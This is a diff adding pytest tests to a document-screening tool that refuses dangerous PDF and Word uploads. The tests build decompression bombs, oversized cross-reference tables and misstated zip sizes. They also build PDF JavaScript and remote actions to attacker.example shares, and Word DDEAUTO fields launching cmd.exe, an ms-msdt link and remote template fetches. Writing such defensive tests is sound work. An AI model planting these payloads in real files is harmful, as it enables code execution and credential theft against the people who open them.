@@ -3,11 +3,15 @@ built in tests/documents.py."""
 
 import io
 import logging
+import os
 import struct
+import time
+import tracemalloc
 import zipfile
+import zlib
 
 import pytest
-from pypdf.generic import NameObject, NumberObject
+from pypdf.generic import DictionaryObject, NameObject, NumberObject, TextStringObject
 
 from clemency.common import contents, filetypes
 from tests import documents
@@ -173,3 +177,335 @@ def test_nothing_of_a_file_reaches_the_logs(caplog):
     with caplog.at_level(logging.DEBUG):
         assert reason(twice) is None
     assert "Marker-Rosa-Quispe" not in caplog.text
+
+
+# --- PDF: what reading one costs ----------------------------------------------------------------
+
+MB = 1024 * 1024
+
+
+def checked_in(data: bytes) -> tuple[str | None, float, float]:
+    """The reason, the seconds and the peak of memory (MB, as tracemalloc counts it) of a check."""
+    tracemalloc.start()
+    started = time.monotonic()
+    try:
+        found = reason(data)
+        return found, time.monotonic() - started, tracemalloc.get_traced_memory()[1] / MB
+    finally:
+        tracemalloc.stop()
+
+
+def test_an_object_stream_inflating_to_70_mb_is_refused_at_once():
+    bomb = documents.pdf_with_object_stream_bomb(70 * MB)
+    assert len(bomb) < 100 * 1024
+    found, seconds, peak = checked_in(bomb)
+    assert found == "pdf_complex"
+    assert seconds < 2  # it took 10 s and 1.6 GB, and was accepted
+    assert peak < 40
+
+
+def test_a_million_cross_reference_entries_are_refused_before_they_are_read():
+    declared = documents.pdf_with_xref_entries(1_000_000)
+    assert len(declared) < 10 * 1024
+    found, seconds, peak = checked_in(declared)
+    assert found == "pdf_complex"
+    assert seconds < 2  # each entry was read, then looked for in the whole file: 24 s
+    assert peak < 40
+
+
+def test_values_packed_in_object_streams_are_counted_before_pypdf_parses_them():
+    # Four megabytes of zeros in arrays: two million objects for pypdf to make, in one go.
+    dense = b"[" + b"0 " * 50_000 + b"]"
+    found, seconds, _peak = checked_in(
+        documents.pdf_with_object_streams([{10 + n: dense for n in range(40)}])
+    )
+    assert found == "pdf_complex"
+    assert seconds < 2
+
+
+def test_object_streams_have_a_budget_together(monkeypatch):
+    monkeypatch.setattr(contents, "PDF_MAX_DECODED", 1 * MB)
+    assert reason(documents.pdf_with_object_stream_bomb(600_000)) is None
+    assert reason(documents.pdf_with_object_stream_bomb(600_000, streams=2)) == "pdf_complex"
+
+
+@pytest.mark.parametrize(
+    "build",
+    [
+        documents.pdf,
+        documents.docx,
+        lambda: documents.raw_pdf(broken_xref=True),  # pypdf repairs it, catching what it can
+    ],
+)
+def test_a_check_that_runs_out_of_time_refuses_the_file(monkeypatch, build):
+    data = build()
+    assert reason(data) is None
+    monkeypatch.setattr(contents, "CHECK_SECONDS", 0)
+    assert reason(data) == ("docx_unpacked" if data.startswith(b"PK") else "pdf_complex")
+
+
+def test_the_pictures_of_a_scan_are_never_decoded():
+    camera = os.urandom(6 * MB)  # a phone's JPEG: larger than any stream pypdf may decode
+    flat = zlib.compress(bytes(3 * 1400 * 1400 * 2))  # inflates to 11.8 MB, packs to 12 KB
+    for data in [
+        documents.pdf_with_image(camera, "/DCTDecode", width=4032, height=3024),
+        documents.pdf_with_image(flat, "/FlateDecode", width=2800, height=1400),
+    ]:
+        found, seconds, peak = checked_in(data)
+        assert found is None
+        assert seconds < 2
+        assert peak < 3 * len(data) / MB + 10  # the file, not what it decodes to
+
+
+@pytest.mark.parametrize(
+    "build",
+    [
+        lambda: documents.pdf_with_object_streams([{10: b"<< /A 1 >>", 11: b"[1 2 (three)]"}]),
+        lambda: documents.pdf_with_object_streams(
+            [{10: b"<< /A 1 >>"}, {11: b"<< /Kids [10 0 R] >>"}],
+            {1: b"<< /Type /Catalog /Pages 2 0 R /Outlines 11 0 R >>"},
+        ),
+    ],
+)
+def test_ordinary_object_streams_pass(build):
+    assert reason(build()) is None
+
+
+JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
+OPENS_21 = {1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 21 0 R >>"}
+
+
+def test_every_object_in_an_object_stream_is_looked_at():
+    # The cross-reference puts object 21 first in stream 1000, where object 99 is: a viewer
+    # that goes by the position runs 99's JavaScript; pypdf goes by number and skips it.
+    tricked = documents.pdf_with_object_streams(
+        [{99: JS, 21: b"<< /A 1 >>"}, {99: b"<< /B 2 >>"}],
+        OPENS_21,
+        listed={21: (1000, 0), 99: (1001, 0)},
+    )
+    assert reason(tricked) == "pdf_active"
+
+
+def test_an_object_given_twice_in_an_object_stream_is_looked_at_twice():
+    # pypdf keeps the first object 21; the cross-reference points at the second.
+    twice = documents.pdf_with_object_streams(
+        [[(21, b"<< /A 1 >>"), (21, JS)]], OPENS_21, listed={21: (1000, 1)}
+    )
+    assert reason(twice) == "pdf_active"
+
+
+def test_an_object_stream_too_large_to_decode_is_refused_not_skipped():
+    # In a damaged file pypdf rebuilds the cross-reference and passes over object streams it
+    # cannot decode: the JavaScript in this one would go unseen.
+    padded = b"21 0 " + JS + b" (" + b"A" * (5 * MB) + b")"
+    hidden = documents.raw_pdf(
+        {**OPENS_21, 20: documents._stream(padded, b"/Type /ObjStm /N 1 /First 5")},
+        broken_xref=True,
+    )
+    assert reason(hidden) == "pdf_complex"
+
+
+def test_a_reference_to_an_object_found_nowhere_is_refused():
+    assert reason(documents.raw_pdf(OPENS_21)) == "damaged"
+
+
+def test_objects_nested_deeper_than_pypdf_parses_are_refused():
+    deep = b"<< /A " * 2_000 + b"1" + b" >>" * 2_000
+    assert reason(documents.raw_pdf({4: deep})) == "pdf_complex"
+
+
+# --- PDF: actions that reach outside ----------------------------------------------------------
+
+
+def action(kind: str, **entries) -> DictionaryObject:
+    return documents._action(kind, **entries)
+
+
+SHARE = TextStringObject("\\\\attacker.example\\share\\x.pdf")
+
+
+@pytest.mark.parametrize(
+    ("build", "expected"),
+    [
+        (lambda: documents.pdf_with_action(action("/GoToR", F=SHARE)), "pdf_active"),
+        (lambda: documents.pdf_with_action(action("/GoToR", F=SHARE), on_page=True), "pdf_active"),
+        (
+            lambda: documents.pdf_with_action(
+                action(
+                    "/SubmitForm",
+                    F=DictionaryObject(
+                        {
+                            NameObject("/FS"): NameObject("/URL"),
+                            NameObject("/F"): TextStringObject("https://x.example/c"),
+                        }
+                    ),
+                )
+            ),
+            "pdf_active",
+        ),
+        (lambda: documents.pdf_with_action(action("/Thread", F=SHARE)), "pdf_active"),
+        (lambda: documents.pdf_with_action(action("/ImportData", F=SHARE)), "pdf_active"),
+        (lambda: documents.pdf_with_action(action("/Hide", T=TextStringObject("x"))), "pdf_active"),
+        (lambda: documents.pdf_with_action(action("/GoToE")), "pdf_embedded"),
+        (lambda: documents.pdf_with_link("javascript:app.alert(1)"), "pdf_active"),
+        (lambda: documents.pdf_with_link(" Java\nScript:app.alert(1)"), "pdf_active"),
+        (lambda: documents.pdf_with_link("file://attacker.example/share/x"), "pdf_active"),
+        (lambda: documents.pdf_with_link("\\\\attacker.example\\share\\x"), "pdf_active"),
+        (lambda: documents.pdf_with_link("letter.pdf"), "pdf_active"),  # next to the file, wherever
+        (
+            lambda: documents.pdf_with_image(
+                b"", "/DCTDecode", width=1, height=1, F=TextStringObject("//attacker/x.jpg")
+            ),
+            "pdf_active",
+        ),
+        (lambda: documents.raw_pdf({4: b"<< /FS /URL /F (https://x.example/) >>"}), "pdf_active"),
+        (
+            lambda: documents.raw_pdf(
+                {1: b"<< /Type /Catalog /Pages 2 0 R /URI << /Base (file:///C:/) >> >>"}
+            ),
+            "pdf_active",
+        ),
+        # Actions that stay in the document, and links to web pages and e-mail addresses.
+        (lambda: documents.pdf_with_action(action("/Thread", D=NumberObject(0))), None),
+        (lambda: documents.pdf_with_action(action("/Named", N=NameObject("/Print"))), None),
+        (lambda: documents.pdf_with_link("https://www.ny.gov/services/apply-clemency"), None),
+        (lambda: documents.pdf_with_link("HTTP://example.org/"), None),
+        (lambda: documents.pdf_with_link("mailto:clinic@example.org"), None),
+    ],
+)
+def test_actions_that_reach_outside_the_file_are_refused(build, expected):
+    assert reason(build()) == expected
+
+
+# --- Word: links, fields, sizes -----------------------------------------------------------------
+
+SETTINGS = b'<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
+
+
+@pytest.mark.parametrize(
+    ("build", "expected"),
+    [
+        (
+            lambda: documents.docx(
+                {
+                    "word/settings.xml": SETTINGS,
+                    "word/_rels/settings.xml.rels": documents.relationships(
+                        ("attachedTemplate", "https://attacker.example/t.dotm", "External")
+                    ),
+                }
+            ),
+            "docx_nested",
+        ),
+        (
+            lambda: documents.docx_linking(
+                "attachedTemplate", "\\\\attacker.example\\share\\t.dotm"
+            ),
+            "docx_nested",
+        ),
+        (
+            lambda: documents.docx_linking(
+                "oleObject", "mhtml:https://attacker.example/x.html!x-usc:https://x.example/"
+            ),
+            "docx_nested",
+        ),
+        (
+            lambda: documents.docx_linking("image", "file:///\\\\attacker.example\\share\\a.png"),
+            "docx_nested",
+        ),
+        (
+            lambda: documents.docx_linking(
+                "aFChunk", "afchunk.dat", "Internal", **{"word/afchunk.dat": b"<html></html>"}
+            ),
+            "docx_nested",
+        ),
+        (lambda: documents.docx({"word/afchunk.mht": b"MIME-Version: 1.0\r\n"}), "docx_nested"),
+        (lambda: documents.docx({"word/afchunk.rtf": b"{\\rtf1}"}), "docx_nested"),
+        (lambda: documents.docx_linking("hyperlink", "file:///C:/Windows/x.exe"), "docx_nested"),
+        (lambda: documents.docx_linking("hyperlink", "ms-msdt:/id PCWDiagnostic"), "docx_nested"),
+        # Links to web pages and e-mail addresses, and pictures inside the file, stay.
+        (lambda: documents.docx_linking("hyperlink", "https://www.ny.gov/"), None),
+        (lambda: documents.docx_linking("hyperlink", "mailto:clinic@example.org"), None),
+        (
+            lambda: documents.docx_linking(
+                "image",
+                "media/image1.png",
+                "Internal",
+                **{"word/media/image1.png": documents.png()},
+            ),
+            None,
+        ),
+    ],
+)
+def test_word_files_that_reach_outside_are_refused(build, expected):
+    assert reason(build()) == expected
+
+
+SIMPLE = '<w:fldSimple w:instr="{}"><w:r><w:t>1</w:t></w:r></w:fldSimple>'
+
+
+def with_runs(runs: str) -> bytes:
+    return documents.docx(document=documents.word_body(runs))
+
+
+@pytest.mark.parametrize(
+    ("runs", "expected"),
+    [
+        (
+            documents.field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '),
+            "docx_nested",
+        ),
+        (documents.field(" DD", "E c:\\\\x.exe "), "docx_nested"),  # split across runs
+        (documents.field("ddeauto x"), "docx_nested"),
+        (documents.field(' INCLUDETEXT "\\\\\\\\attacker\\\\share\\\\x.docx" '), "docx_nested"),
+        (documents.field(' INCLUDEPICTURE "https://attacker.example/p.png" \\d '), "docx_nested"),
+        (documents.field(' LINK Excel.Sheet.12 "\\\\\\\\attacker\\\\x.xlsx" '), "docx_nested"),
+        (
+            '<w:fldSimple w:instr=" DDE c:\\\\x.exe x"><w:r><w:t>1</w:t></w:r></w:fldSimple>',
+            "docx_nested",
+        ),
+        # The field's name would come from a field inside it.
+        (
+            documents.field(" ", " c:\\\\x.exe ", nested=documents.field("QUOTE 68 68 69")),
+            "docx_nested",
+        ),
+        # Fields that link, count and number stay.
+        (documents.field(' HYPERLINK "https://www.ny.gov/" '), None),
+        (documents.field(' TOC \\o "1-3" \\h \\z \\u '), None),
+        (documents.field(" PAGE "), None),
+        (documents.field(" IF ", ' = 1 "a" "b" ', nested=documents.field(" PAGE ")), None),
+        (SIMPLE.format(" NUMPAGES "), None),
+    ],
+)
+def test_fields_that_run_programs_or_fetch_files_are_refused(runs, expected):
+    assert reason(with_runs(runs)) == expected
+
+
+def test_fields_in_headers_and_other_parts_are_read_too():
+    header = documents.word_body(documents.field(" INCLUDEPICTURE https://x.example/p.png "))
+    assert reason(documents.docx({"word/header1.xml": header})) == "docx_nested"
+
+
+def test_a_document_type_declaration_is_refused():
+    laughs = (
+        b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">'
+        b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
+    )
+    assert reason(with_runs("")) is None
+    assert reason(documents.docx(document=laughs + documents.word_body("")[38:])) == "damaged"
+
+
+def test_a_directory_that_declares_less_than_the_stream_holds_is_refused():
+    # 1,000 bytes declared, with the CRC of the first 1,000: zipfile stops there, and is happy.
+    lying = documents.docx_lying_about_size(documents.document_xml() + b" " * (60 * MB))
+    assert len(lying) < 100 * 1024
+    with zipfile.ZipFile(io.BytesIO(lying)) as archive:
+        assert len(archive.read("word/document.xml")) == 1_000
+    found, seconds, peak = checked_in(lying)
+    assert found == "damaged"
+    assert seconds < 1
+    assert peak < 10
+
+
+def test_a_stream_that_stops_before_its_end_is_refused():
+    cut = documents.docx_lying_about_size(documents.document_xml() * 50, declared=0, cut=4)
+    assert reason(cut) == "damaged"
